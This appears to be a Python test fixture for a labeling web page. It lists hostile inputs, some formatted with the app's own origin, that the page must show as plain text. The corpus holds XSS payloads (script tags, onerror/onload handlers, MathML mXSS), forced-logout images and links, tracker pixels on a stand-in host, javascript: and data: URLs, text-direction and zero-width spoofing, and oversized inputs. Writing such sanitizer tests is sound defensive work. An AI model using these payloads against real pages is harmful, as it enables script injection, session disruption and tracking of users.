"""Hostile inputs for the labeling page: each must show as text and create nothing.

``{origin}`` is replaced by the served app's origin (``http://127.0.0.1:PORT``), so routes
of the app itself are targeted as well as an outside host.
"""

from __future__ import annotations

TRACKER = "http://tracker.invalid"

CORPUS: dict[str, str] = {
    # Markdown and the old escaping disagreed about what is code.
    "escaped_backticks": '\\`<div style="position:fixed;inset:0;background:red" id="rl-evil">'
                         'covered</div>\\`',
    "fence_mid_line": 'see ```<form action="{origin}/logout"><input name=q id="rl-evil">'
                      '<button>go</button></form>```',
    "raw_html": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh" '
                'id="rl-evil">overlay</div><b>bold?</b>',
    "script": "<script>window.__rl_pwned = 1; alert('xss')</script>",
    "event_handler": '<img src=x onerror="window.__rl_pwned=1;alert(1)">'
                     '<svg onload="alert(2)"></svg>',
    "iframe_object": '<iframe src="{origin}/logout"></iframe><object data="x"></object>'
                     '<embed src="x">',
    "style_tag": "<style>body{display:none}</style>hidden?",
    "mathml_mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(3)>",
    # Images: a logout beacon on the app's own route, and an outside tracker.
    "image_logout": "![x]({origin}/logout) and ![y](/logout)",
    "image_tracker": f"![pixel]({TRACKER}/p.gif?u=ann) ![](data:image/svg+xml,<svg/>)",
    "html_image_tracker": f'<img src="{TRACKER}/q.gif">',
    # Links that would run code or open without a click.
    "js_links": "[click](javascript:alert(4)) [d](data:text/html,<script>alert(5)</script>) "
                "[v](vbscript:msgbox) <javascript:alert(6)> [rel]({origin}/logout)",
    "html_link": '<a href="javascript:alert(7)">x</a><meta http-equiv="refresh" '
                 'content="0;url=/logout"><base href="http://tracker.invalid/">',
    # Text that tries to look like something else.
    "rtl_override": "safe \u202egnp.exe\u202c text \u2066isolate\u2069 \u200f",
    "zero_width": "ad\u200bmin\u200c\u200d\ufeff pass\u2060word",
    "entities": "&lt;script&gt; &#x3C;img src=x onerror=alert(8)&#x3E; &amp;amp;",
    # Markdown that must keep rendering.
    "markdown_ok": "# Heading\n\n> tip\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
                   "```python\nprint('<b>')\n```\n\n$x^2$ and $$\\frac{a}{b}$$",
    # Sizes that froze the page.
    "huge_token": "x" * 300_000,
    "huge_text": "word " * 60_000,
    "deep_nesting": "> " * 500 + "deep" + "\n\n" + "- " * 300 + "list" + "\n\n" + "[" * 5000,
}


def corpus(origin: str) -> dict[str, str]:
    return {name: text.replace("{origin}", origin) for name, text in CORPUS.items()}
